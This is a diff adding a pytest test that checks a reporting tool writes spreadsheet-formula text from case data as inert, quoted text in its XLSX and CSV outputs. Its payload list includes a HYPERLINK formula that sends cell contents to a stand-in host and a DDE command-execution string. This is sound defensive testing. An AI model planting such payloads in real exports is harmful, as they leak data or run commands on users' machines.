@@ -1,0 +1,82 @@
+"""Formula injection, end to end: text from the data that a spreadsheet would run as a formula
+(an office named `=HYPERLINK(...)`, `+...`, `-...`, `@...`) reaches the workbook and the CSV
+through a disaggregation, and is written as inert text everywhere."""
+
+from __future__ import annotations
+
+import io
+import shutil
+import zipfile
+
+import openpyxl
+import pandas as pd
+
+from tests.conftest import REPO
+
+CLEAN = REPO / "tests" / "data" / "clean"
+EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+INDICATOR = """\
+id: SEC-01
+name: Victims identified, by office
+pillar: protection
+level: result
+result: Victims are identified
+definition: Distinct persons registered, by the office that registered them.
+unit: persons
+dataset: cases
+measure: {type: count_distinct, column: case_id}
+date: registration_date
+disaggregations: [office]
+cumulation: per_period
+direction: increase
+verification: {method: [case records review], source: case register}
+frequency: {collection: monthly, reporting: quarterly}
+references:
+  - source: a test of formula injection
+    provenance: derived
+"""
+
+
+def test_formula_text_from_data_is_never_a_formula(tmp_path, cli):
+    project = tmp_path / "project"
+    shutil.copytree(CLEAN, project)
+    cases = pd.read_csv(project / "cases.csv", dtype=str, keep_default_na=False)
+    cases["office"] = [EVIL[i % len(EVIL)] for i in range(len(cases))]
+    cases.to_csv(project / "cases.csv", index=False)
+    (project / "indicators").mkdir()
+    (project / "indicators" / "SEC-01.yaml").write_text(INDICATOR, encoding="utf-8")
+    y = (project / "mel.yaml").read_text(encoding="utf-8")
+    y = y.replace("select: [PROT-01, PROT-02]", "select: [SEC-01]\n  paths: [indicators]")
+    (project / "mel.yaml").write_text(y, encoding="utf-8")
+    out = tmp_path / "out"
+    r = cli(
+        "report", str(project), "-p", "2024-Q4", "--as-of", "2026-01-15", "-o", str(out),
+        "--internal",
+    )  # fmt: skip
+    assert r.exit_code == 0, r.output
+    r = cli("compute", str(project), "--as-of", "2026-01-15", "-o", str(out / "c.csv"))
+    assert r.exit_code == 0, r.output
+
+    workbook = out / "report-2024-Q4.xlsx"
+    wb = openpyxl.load_workbook(workbook)  # formulas as written, not values
+    seen = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str) and c.value in EVIL:
+                    seen.add(c.value)
+    assert seen == set(EVIL)  # the offices are in the report, as text
+    with zipfile.ZipFile(workbook) as z:  # and no <f> element in any sheet's XML
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+
+    for name in ("results-2024-Q4.csv", "c.csv"):
+        text = (out / name).read_text(encoding="utf-8")
+        table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+        categories = set(table["category"])
+        for evil in EVIL:
+            assert evil not in categories, (name, evil)  # never as written ...
+            assert "'" + evil in categories, (name, evil)  # ... but quoted as text
